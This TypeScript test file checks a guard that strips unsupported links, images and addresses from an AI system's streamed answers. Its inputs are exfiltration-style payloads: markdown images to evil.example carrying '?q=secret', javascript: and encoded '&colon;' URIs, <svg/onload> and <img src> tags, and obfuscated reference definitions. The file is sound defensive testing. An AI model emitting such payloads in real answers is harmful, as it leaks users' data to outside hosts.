/** Which links, images and addresses of an answer stay, however the stream is cut. */

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Evidence } from '../../../src/engine/ports/snapshot.ts';
import { createLinkGuard } from '../../../src/engine/writing/link-guard.ts';

const text =
  'See https://docs.example/api for the API, [the guide](./guide.md), [run](javascript:run()), [it](javascript&colon;run()), and https://docs.example/api/v2.';
const evidence: Evidence[] = [
  {
    n: 1,
    snapshot: 's',
    url: 'https://docs.example/page',
    title: '',
    headings: '',
    text,
    start: 0,
    end: text.length,
    score: 1,
  },
];

const others: Evidence[] = [
  'https://docs.example/Mercury_(planet)',
  "https://docs.example/Moore's_law",
  'https://host.example/',
].map((url) => ({ ...evidence[0]!, url }));

function pass(pieces: readonly string[]): string {
  const guard = createLinkGuard([...evidence, ...others]);
  return pieces.map((piece) => guard.push(piece)).join('') + guard.finish();
}

const cases: [string, string][] = [
  ['See [the API](https://docs.example/api).', 'See the API.'],
  [
    'See [the page](https://docs.example/page) and [a part](#part).',
    'See [the page](https://docs.example/page) and a part.',
  ],
  ['See [the guide](./guide.md).', 'See the guide.'],
  ['See [this](https://evil.example/?q=secret) now.', 'See this now.'],
  ['See [this](//evil.example/x) or [that](javascript:alert(1)).', 'See this or that.'],
  ['Look: ![a cat](https://docs.example/api) here.', 'Look: a cat here.'],
  ['Go to https://evil.example/x?key=1 and be gone.', 'Go to  and be gone.'],
  [
    'Go to https://docs.example/api?leak=1 now, or https://docs.example/api.',
    'Go to  now, or `https://docs.example/api`.',
  ],
  [
    'See [https://docs.example/api](https://docs.example/api), <https://docs.example/page/>.',
    'See `https://docs.example/api`, <https://docs.example/page/>.',
  ],
  ['It is so [1](https://docs.example/page), and so [Source 2](//evil.example/x).', 'It is so [1], and so [Source 2].'],
  [
    'See [here][ref], [there][], <https://evil.example/x> or https://docs.example/page.',
    'See here, there,  or https://docs.example/page.',
  ],
  [
    "See https://docs.example/Mercury_(planet), (https://docs.example/Moore's_law) and https://docs.example/page's limit.",
    "See https://docs.example/Mercury_(planet), (https://docs.example/Moore's_law) and https://docs.example/page's limit.",
  ],
  [
    "See [it](https://docs.example/Mercury_(planet)), [that](https://docs.example/Moore's_law)(so) and 'https://docs.example/page'.",
    "See [it](https://docs.example/Mercury_(planet)), [that](https://docs.example/Moore's_law)(so) and 'https://docs.example/page'.",
  ],
  [
    "Go to https://docs.example/page_(leak), https://docs.example/page(leak, https://docs.example/page'leak or (https://evil.example/(x)y).",
    'Go to    or ().',
  ],
  [
    "In code `get('https://docs.example/api', f(https://docs.example/api))` stays.",
    "In code `get('https://docs.example/api', f(https://docs.example/api))` stays.",
  ],
  ['The host https://docs.example alone is invented.', 'The host  alone is invented.'],
  ['Go to www.evil.example today.', 'Go to  today.'],
  [
    'Write <img src="https://evil.example/x"> and <b>bold</b> and Map<string, number>.',
    'Write  and <b>bold</b> and Map<string, number>.',
  ],
  [
    'In code `<img src="x.png">` stays, and so does\n\n```html\n<a href="x">y</a>\n```\n',
    'In code `<img src="x.png">` stays, and so does\n\n```html\n<a href="x">y</a>\n```\n',
  ],
  ['A stray ` and ![a cat](https://evil.example/?q=secret) here.', 'A stray ` and a cat here.'],
  ['A stray ` and ![a cat](//evil.example/?q=secret) here.', 'A stray ` and a cat here.'],
  ['```\n```js\n```\n![a cat](//evil.example/x) here.', '```\n```js\n```\na cat here.'],
  ['Plain text ```\nand ![a cat](//evil.example/x) here.', 'Plain text ```\nand a cat here.'],
  ['Write <img/src=//evil.example/x> and <svg/onload=load()> not.', 'Write  and  not.'],
  ['Write <img\nalt="a"\nsrc="//evil.example/x"> not.', 'Write  not.'],
  ['Write <b style="background:url(//evil.example/x)">so</b>.', 'Write <b style="background:url()">so</b>.'],
  ['Press <javascript:alert(1)>, not <host:port>.', 'Press <>, not <host:port>.'],
  ['Run [this](javascript:run()) as shown.', 'Run this as shown.'],
  ['Run [this](javascript&colon;run()) as shown.', 'Run this as shown.'],
  ['See ![a] or [b].\n\n[a]: //evil.example/x\n[b]: <javascript:run()>', 'See ![a] or [b].\n\n[a]: \n[b]: <>'],
  ['[a]: https://docs.example/api\n[b]: guide.md', '[a]: `https://docs.example/api`\n[b]: guide.md'],
  ['![a]\n\n[a]:https:evil.example/x?q=secret', '![a]\n\n[a]:'],
  ['![a]\n\n> [a]:\n> http:evil.example/x', '![a]\n\n> [a]:\n> '],
  [`![a]\n\n[a]:${' '.repeat(40)}//evil.example/x`, `![a]\n\n[a]:${' '.repeat(40)}`],
  ['![a]\n\n[a]:<https:evil.example/x>', '![a]\n\n[a]:'],
  ['![a]\n\n[a]: https:\\\\evil.example/x\n[b]: /\\evil.example/x', '![a]\n\n[a]: \n[b]: '],
  ['See <https:evil.example/x>, <https:\\\\evil.example> and <host:port>.', 'See ,  and <host:port>.'],
  ['In code `<https:evil.example/x>` and `[a]:https:evil.example/x` too.', 'In code `<>` and `[a]:` too.'],
  ['Note \\` ![a cat](https://docs.example/api) ` end.', 'Note \\` a cat ` end.'],
  ['A ` ``` ` ![a cat](https://docs.example/api) `` b.', 'A ` ``` ` a cat `` b.'],
  ['A ` b ![a cat](https://docs.example/api) `` c.', 'A ` b a cat `` c.'],
  ['A <b title="`">b</b> ![a cat](https://docs.example/api) ` c.', 'A <b title="`">b</b> a cat ` c.'],
  ['<!--\n```\n-->\n\n![a cat](https://docs.example/api)\n', '<!--\n```\n-->\n\na cat\n'],
  ['<div>\n```\n</div>\n\n![a cat](https://docs.example/api)\n', '<div>\n```\n</div>\n\na cat\n'],
  ['<!-- a -->\n\n```html\n<a href="x">y</a>\n```\n', '<!-- a -->\n\n```html\n<a href="x">y</a>\n```\n'],
  [
    'Open [1]: 9:00–17:00 daily. Score [1]: 2:1, std [2]: std::vector.',
    'Open [1]: 9:00–17:00 daily. Score [1]: 2:1, std [2]: std::vector.',
  ],
  ['[2]:\n\n> 10:30 Uhr\n\n[1]: mailto:info@docs.example', '[2]:\n\n> 10:30 Uhr\n\n[1]: mailto:info@docs.example'],
  ['Text [a]: https:evil.example/x, - [b]: //evil.example/x', 'Text [a]:  - [b]: '],
  ['![b]\n\n1. [b]: //evil.example/x', '![b]\n\n1. [b]: '],
  ['- <b>Bold</b> item\n  ```js\n  arr[0](1)\n  ```\n', '- <b>Bold</b> item\n  ```js\n  arr[0](1)\n  ```\n'],
  ['<kbd>C</kbd> copies\n```js\narr[0](1)\n```\n', '<kbd>C</kbd> copies\n```js\narr[0](1)\n```\n'],
  ['<PRE>\n```\n</pre>\n\n```js\narr[0](1)\n```\n', '<PRE>\n```\n</pre>\n\n```js\narr[0](1)\n```\n'],
  ['In code `![a cat](https://evil.example/x)` only its address goes.', 'In code `![a cat]()` only its address goes.'],
  ['In code `list[0](x)` and `map[key]: value` stay.', 'In code `list[0](x)` and `map[key]: value` stay.'],
  ['A list[1] and [2] and a [note] stay. [1][2]', 'A list[1] and [2] and a [note] stay. [1][2]'],
  // Chinese and Japanese text goes on after its marks without a space.
  ['它在https://evil.example/a。灯塔高46米。[1]', '它在。灯塔高46米。[1]'],
  [
    '灯塔（https://evil.example/a）高46米，见https://evil.example/b、https://docs.example/api。好',
    '灯塔（）高46米，见、`https://docs.example/api`。好',
  ],
  [
    '見よ「https://docs.example/page」と https://docs.example/page でも。',
    '見よ「`https://docs.example/page`」と https://docs.example/page でも。',
  ],
  ['انظر https://docs.example/api، ثم https://evil.example/x؟', 'انظر `https://docs.example/api`، ثم ؟'],
  // Nothing after such a mark may become part of the address of a source.
  ['Go to https://docs.example/page，secret now.', 'Go to `https://docs.example/page`，secret now.'],
  [
    'See “https://docs.example/api” and ‘https://docs.example/page’ or https://docs.example/page’s limit.',
    'See “`https://docs.example/api`” and ‘https://docs.example/page’ or https://docs.example/page’s limit.',
  ],
  // Nor of its host.
  ['See https://host.example’.evil.com/x now.', 'See https://host.example/’.evil.com/x now.'],
  ["See https://host.example's’.evil.com now.", "See https://host.example/'s’.evil.com now."],
  ['See https://host.example, or https://host.example.', 'See https://host.example, or https://host.example.'],
  ['As in 2https://evil.example/x and ftp://evil.example/y here.', 'As in 2 and  here.'],
  // What goes takes neither the end of its sentence with it nor that of the emphasis.
  [
    'Visit https://evil.example/a. The tower is old. Is it at www.evil.example? No.',
    'Visit . The tower is old. Is it at ? No.',
  ],
  ['It is **at https://evil.example/a** today, or _https://evil.example/b._', 'It is **at ** today, or _._'],
  [
    'The ratio a:b, the time 10:30, what he says: "who", w and h.',
    'The ratio a:b, the time 10:30, what he says: "who", w and h.',
  ],
];

describe('links of an answer', () => {
  it.each(cases)('keeps only links that the evidence supports, in %j', (answer, expected) => {
    expect(pass([answer])).toBe(expected);
  });

  it.each([
    ['brackets that are never closed', `](${'(a'.repeat(5_000)} end.`],
    ['links in links', ']('.repeat(5_000)],
    ['brackets in brackets', '](('.repeat(5_000)],
    ['images in images', '![a]('.repeat(3_000)],
    ['one long target', `](${'a'.repeat(15_000)}`],
    ['tags in tags', '<img '.repeat(3_000)],
    ['parentheses in an address', `https://docs.example/${'(a'.repeat(8_000)}`],
    ['owners of an address', `https://evil.example/${'’s'.repeat(8_000)}`],
    ['addresses in addresses', 'https://(a)'.repeat(1_500)],
    ['backticks', '`[a](`'.repeat(2_500)],
    ['tags that are never closed', `A \` ${'<q '.repeat(5_000)}`],
    ['blanks in a definition', `[a]:${' '.repeat(15_000)}`],
    ['definitions', '[a]: > '.repeat(2_500)],
    ['comments that are never closed', '<!--\n'.repeat(3_000)],
  ])('reads thousands of characters of %s without blocking', (_, answer) => {
    expect(pass([answer]).length).toBeLessThanOrEqual(answer.length);
    expect(pass([answer, '\n', answer]).length).toBeLessThanOrEqual(2 * answer.length + 1);
    expect(pass(answer.match(/.{1,9}/g) ?? []).length).toBeLessThanOrEqual(answer.length);
  });

  it.each(cases)('returns the same text however the stream is cut: %j', (answer, expected) => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 6 }), { minLength: 1, maxLength: 12 }), (sizes) => {
        const pieces: string[] = [];
        for (let at = 0, i = 0; at < answer.length; i += 1) {
          pieces.push(answer.slice(at, at + sizes[i % sizes.length]!));
          at += sizes[i % sizes.length]!;
        }
        expect(pass(pieces)).toBe(expected);
      }),
    );
  });
});
